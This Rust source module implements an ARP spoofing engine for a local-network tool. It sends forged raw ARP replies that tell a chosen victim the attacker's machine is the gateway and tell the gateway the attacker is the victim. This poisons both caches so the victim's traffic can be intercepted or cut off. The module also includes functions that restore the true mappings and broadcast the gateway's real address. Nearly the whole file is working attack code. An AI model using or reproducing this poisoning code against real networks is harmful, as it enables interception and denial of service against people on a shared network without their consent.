use std::{net::Ipv4Addr, sync::Arc};

use anyhow::Context;
use pnet::util::MacAddr;
use tracing::{debug, error, info};

use super::{
    inspect::{Hostnames, NetworkInspector},
    utils::{create_arp_reply_v4_eth, get_rawsock, ARP_FRAME_LEN},
};
use crate::{
    error::CutError,
    model::{GatewayInfo, HostInfo, VictimDescriptor},
};

/// Frames per poisoning burst.
pub const SPOOF_BURST: usize = 5;
/// Restoring has to outrun entries a repeater tick may still be planting.
pub const RESTORE_BURST: usize = 10;
/// Frames per protection beacon.
pub const BEACON_BURST: usize = 5;

/// One "is-at" claim: `sender_ip` is at `sender_mac`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ArpReply {
    /// Unicast destination. `None` broadcasts a gratuitous reply.
    pub target: Option<(Ipv4Addr, MacAddr)>,
    pub sender_ip: Ipv4Addr,
    pub sender_mac: MacAddr,
}

impl ArpReply {
    pub fn to_frame(&self, link_source: MacAddr) -> [u8; ARP_FRAME_LEN] {
        return create_arp_reply_v4_eth(self.target, self.sender_ip, self.sender_mac, link_source);
    }
}

/// Puts replies on the wire. Delivery is never confirmed; `Ok` only means the
/// frames left the socket.
pub trait FrameSender: Send + Sync {
    fn send_replies(&self, iface: &str, reply: &ArpReply, count: usize) -> anyhow::Result<()>;
}

pub struct PnetSender;

impl FrameSender for PnetSender {
    fn send_replies(&self, iface: &str, reply: &ArpReply, count: usize) -> anyhow::Result<()> {
        let (interface, mut sender, _receiver) = get_rawsock(iface, None)?;
        let link_source = interface
            .mac
            .context("Interface is missing a mac address")?;
        let frame = reply.to_frame(link_source);
        for _ in 0..count {
            sender
                .send_to(&frame, None)
                .context("send_to returned None")??;
        }
        return Ok(());
    }
}

/// Gateway and our own address on the gateway's interface, resolved together.
#[derive(Debug, Clone)]
pub struct Topology {
    pub gateway: GatewayInfo,
    pub me: HostInfo,
}

/// Builds and sends the poisoning and restoring replies.
pub struct SpoofEngine {
    inspector: Arc<dyn NetworkInspector>,
    sender: Arc<dyn FrameSender>,
}

impl SpoofEngine {
    pub fn new(inspector: Arc<dyn NetworkInspector>, sender: Arc<dyn FrameSender>) -> Self {
        return Self { inspector, sender };
    }

    /// Addresses only; frames never carry hostnames.
    pub fn resolve_gateway(&self) -> Result<GatewayInfo, CutError> {
        return self
            .inspector
            .resolve_gateway(Hostnames::Skip)?
            .ok_or(CutError::NoGateway);
    }

    pub fn topology(&self) -> Result<Topology, CutError> {
        let gateway = self.resolve_gateway()?;
        let me = self
            .inspector
            .resolve_self(&gateway.iface, Hostnames::Skip)?
            .ok_or_else(|| CutError::NoInterfaceAddress(gateway.iface.clone()))?;
        return Ok(Topology { gateway, me });
    }

    /// Resolves the topology and poisons `victim` once.
    pub fn spoof(&self, victim: &VictimDescriptor) -> Result<(), CutError> {
        let topology = self.topology()?;
        return self.spoof_with(&topology, victim);
    }

    /// Tells the victim we are the gateway and the gateway we are the victim.
    pub fn spoof_with(
        &self,
        topology: &Topology,
        victim: &VictimDescriptor,
    ) -> Result<(), CutError> {
        let gateway_ip = topology.gateway.ipv4()?;
        let gateway_mac = topology.gateway.hw_addr()?;
        let my_mac = topology.me.hw_addr()?;
        let victim_ip = victim.ipv4()?;
        let victim_mac = victim.hw_addr()?;

        debug!("Attacking host {victim_ip}");
        let to_victim = ArpReply {
            target: Some((victim_ip, victim_mac)),
            sender_ip: gateway_ip,
            sender_mac: my_mac,
        };
        let to_gateway = ArpReply {
            target: Some((gateway_ip, gateway_mac)),
            sender_ip: victim_ip,
            sender_mac: my_mac,
        };
        return self.send_pair(&topology.gateway.iface, &to_victim, &to_gateway, SPOOF_BURST);
    }

    /// Puts the true mappings back on both sides.
    pub fn unspoof(&self, victim: &VictimDescriptor) -> Result<(), CutError> {
        let gateway = self.resolve_gateway()?;
        return self.unspoof_with(&gateway, victim);
    }

    pub fn unspoof_with(
        &self,
        gateway: &GatewayInfo,
        victim: &VictimDescriptor,
    ) -> Result<(), CutError> {
        let gateway_ip = gateway.ipv4()?;
        let gateway_mac = gateway.hw_addr()?;
        let victim_ip = victim.ipv4()?;
        let victim_mac = victim.hw_addr()?;

        info!("Resuming host {victim_ip}");
        let to_victim = ArpReply {
            target: Some((victim_ip, victim_mac)),
            sender_ip: gateway_ip,
            sender_mac: gateway_mac,
        };
        let to_gateway = ArpReply {
            target: Some((gateway_ip, gateway_mac)),
            sender_ip: victim_ip,
            sender_mac: victim_mac,
        };
        return self.send_pair(&gateway.iface, &to_victim, &to_gateway, RESTORE_BURST);
    }

    /// Broadcasts the gateway's real mapping to the whole segment.
    pub fn announce_gateway(&self, gateway: &GatewayInfo) -> Result<(), CutError> {
        let beacon = ArpReply {
            target: None,
            sender_ip: gateway.ipv4()?,
            sender_mac: gateway.hw_addr()?,
        };
        self.sender
            .send_replies(&gateway.iface, &beacon, BEACON_BURST)
            .with_context(|| format!("Couldn't announce gateway on {}", gateway.iface))?;
        return Ok(());
    }

    fn send_pair(
        &self,
        iface: &str,
        to_victim: &ArpReply,
        to_gateway: &ArpReply,
        count: usize,
    ) -> Result<(), CutError> {
        // Both directions are attempted even if the first one fails.
        let victim_side = self.sender.send_replies(iface, to_victim, count);
        if let Err(e) = &victim_side {
            error!("Sending to victim on {iface} failed: {e:#}");
        }
        let gateway_side = self.sender.send_replies(iface, to_gateway, count);
        if let Err(e) = &gateway_side {
            error!("Sending to gateway on {iface} failed: {e:#}");
        }
        victim_side?;
        gateway_side?;
        return Ok(());
    }
}
